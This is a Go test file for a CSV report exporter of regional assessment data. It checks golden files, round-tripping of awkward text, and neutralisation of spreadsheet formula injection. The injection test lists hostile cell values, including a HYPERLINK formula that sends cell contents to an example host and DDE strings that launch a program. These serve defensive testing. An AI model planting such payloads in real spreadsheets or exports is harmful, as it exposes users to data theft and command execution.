package report

import (
	"bytes"
	"encoding/csv"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/nest-nyth/nest/assessment"
)

func writeCSV(t testing.TB, r *Report, o CSVOptions) []byte {
	t.Helper()
	var buf bytes.Buffer
	if err := WriteCSV(&buf, r, o); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// readCSV reads what WriteCSV wrote back with encoding/csv, as a
// spreadsheet would, after checking its byte order mark and line ends.
func readCSV(t *testing.T, data []byte) [][]string {
	t.Helper()
	body, ok := bytes.CutPrefix(data, []byte("\ufeff"))
	if !ok {
		t.Fatal("no byte order mark")
	}
	if bytes.Count(body, []byte("\n")) != bytes.Count(body, []byte("\r\n")) || !bytes.HasSuffix(body, []byte("\r\n")) {
		t.Error("a line does not end with CRLF")
	}
	records, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return records
}

// The CSV tables of the examples, held to golden files.
func TestGoldenCSV(t *testing.T) {
	national := Aggregate(inputs(t, "2024/regions"), Options{Level: National, Year: 2024, Date: "2024-11-30"})
	regional := Aggregate(inputs(t, "2024/services/gwent"), Options{Level: Regional, Region: "gwent", Year: 2024, Date: "2024-11-30"})
	for _, c := range []struct {
		name string
		r    *Report
		o    CSVOptions
	}{
		{"national-2024", national, CSVOptions{}},
		{"national-2024-principles", national, CSVOptions{Table: TablePrinciples}},
		{"national-2024-internal", national, CSVOptions{Edition: Internal}},
		{"regional-gwent-2024", regional, CSVOptions{}},
		{"national-2024-compared", compared(t), CSVOptions{}},
		{"national-2024-compared-principles", compared(t), CSVOptions{Table: TablePrinciples}},
		{"national-2024-compared-changes", compared(t), CSVOptions{Table: TableChanges}},
	} {
		t.Run(c.name, func(t *testing.T) {
			golden(t, filepath.Join("testdata", c.name+".csv"), writeCSV(t, c.r, c.o))
		})
	}
}

// unneutralise takes off the apostrophe WriteCSV puts before a cell a
// spreadsheet would run.
func unneutralise(s string) string {
	if len(s) > 1 && s[0] == '\'' && strings.ContainsRune("=+-@\t\r", rune(s[1])) {
		return s[1:]
	}
	return s
}

// Read back through encoding/csv, the table of submissions holds every
// submission's every principle: its region, organisation, rating, target,
// reason and themes, the words (hostile ones, Welsh letters, quotes,
// commas and new lines) exactly as the report has them.
func TestCSVRoundTrip(t *testing.T) {
	for _, level := range []string{National, Regional} {
		r, _ := hostileReport(t, level)
		r.Submissions[0].Organisation = "Tŷ Teulu, \"the family hub\"\nCaerffili"
		for _, edition := range []string{Public, Internal} {
			records := readCSV(t, writeCSV(t, r.ForEdition(edition), CSVOptions{Edition: edition}))
			head := records[0]
			col := map[string]int{}
			for i, h := range head {
				col[h] = i
			}
			if edition == Internal != (col["file"] > 0) {
				t.Errorf("%s edition: columns %v", edition, head)
			}
			if len(records) != 1+len(r.Submissions)*len(r.Principles) {
				t.Fatalf("%d rows for %d submissions", len(records)-1, len(r.Submissions))
			}
			reasons := map[string]string{}
			for _, p := range r.Principles {
				for _, s := range p.NotRatedReasons {
					reasons[s.ID] = s.Text
				}
			}
			for i, rec := range records[1:] {
				if len(rec) != len(head) {
					t.Fatalf("row %d has %d cells for %d columns", i+1, len(rec), len(head))
				}
				s, row, p := r.Submissions[i/len(r.Principles)], r.Rows[i/len(r.Principles)], r.Principles[i%len(r.Principles)]
				j := i % len(r.Principles)
				want := map[string]string{
					"region": s.Region, "region_name": s.RegionName, "scope": s.Scope, "organisation": s.Organisation,
					"year": "2024", "principle": p.Key, "principle_name": p.Name, "rating": rating(row.Ratings[j]),
					"target": rating(row.Targets[j]), "not_rated": reasons[row.Key+"."+p.Key+".not_rated"],
				}
				for k, v := range want {
					if got := unneutralise(rec[col[k]]); got != v {
						t.Errorf("row %d, %s: got %q, want %q", i+1, k, got, v)
					}
				}
				if got := strings.Count(rec[col["themes"]], ";") + 1; rec[col["themes"]] != "" && got != len(row.Themes[j]) {
					t.Errorf("row %d: %d themes, want %d", i+1, got, len(row.Themes[j]))
				}
			}
		}
	}
}

// A cell a spreadsheet would take for a formula (=HYPERLINK, +, -, @, a
// tab or a carriage return first) is written with an apostrophe before it,
// in every table; a number stays a number.
func TestCSVFormulaInjection(t *testing.T) {
	attacks := []string{`=HYPERLINK("https://example.org/?"&A1,"Click")`, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1"}
	in := inputs(t, "2024/regions")
	for i := range in {
		a := *in[i].Assessment
		a.Principles = map[string]*assessment.Response{}
		for key, resp := range in[i].Assessment.Principles {
			c := *resp
			c.Themes = []string{"own"}
			a.Principles[key] = &c
		}
		k := i
		assessment.FreeTexts(&a, func(_ []string, _ *assessment.Field, s *string) {
			*s = attacks[k%len(attacks)]
			k++
		})
		a.ThemeLabels = map[string]string{"own": attacks[i%len(attacks)]}
		in[i].Assessment = &a
	}
	r := Aggregate(in, Options{Level: National, Year: 2024, Date: "2024-11-30"})
	prev := Aggregate(inputs(t, "2023/regions"), Options{Level: National, Year: 2023})
	r.Compare, _ = Compare(r, prev, nil)
	cells := 0
	for _, table := range CSVTables {
		for _, edition := range []string{Public, Internal} {
			for _, rec := range readCSV(t, writeCSV(t, r, CSVOptions{Table: table, Edition: edition}))[1:] {
				for _, c := range rec {
					if c == "" || number.MatchString(c) {
						continue
					}
					if strings.ContainsRune("=+-@\t\r", rune(c[0])) {
						t.Errorf("%s: a cell a spreadsheet would run: %q", table, c)
					}
					if strings.HasPrefix(c, "'") {
						cells++
					}
				}
			}
		}
	}
	if cells == 0 {
		t.Error("no cell was neutralised")
	}
	for s, want := range map[string]string{"=1+1": "'=1+1", "-1": "-1", "+0.2": "+0.2", "-0.3": "-0.3", "-": "'-", "- a list": "'- a list", "2.3": "2.3", "a=b": "a=b", "@x": "'@x"} {
		if got := neutralise(s); got != want {
			t.Errorf("neutralise(%q) = %q, want %q", s, got, want)
		}
	}
}

func TestCSVTables(t *testing.T) {
	r := Aggregate(inputs(t, "2024/regions"), Options{Level: National, Year: 2024})
	if err := WriteCSV(&bytes.Buffer{}, r, CSVOptions{Table: TableChanges}); err == nil {
		t.Error("the changes table was written without a previous round")
	}
	if err := WriteCSV(&bytes.Buffer{}, r, CSVOptions{Table: "votes"}); err == nil {
		t.Error("an unknown table was written")
	}
	records := readCSV(t, writeCSV(t, r, CSVOptions{Table: TablePrinciples}))
	if len(records) != 1+len(assessment.Principles) || records[5][4] != "1.8" || records[1][0] != "trusted_adults" {
		t.Errorf("principles table %q", records)
	}
	records = readCSV(t, writeCSV(t, compared(t), CSVOptions{Table: TableChanges}))
	// 6 regions in both rounds, West Wales in 2024 only: 7 x 6 rows.
	if len(records) != 1+7*6 {
		t.Errorf("%d rows in the changes table", len(records)-1)
	}
	moved := 0
	for _, rec := range records[1:] {
		if d, err := strconv.Atoi(rec[7]); err == nil && d != 0 {
			moved++
		}
	}
	if moved != 10 {
		t.Errorf("%d ratings moved level, want 10", moved)
	}
}
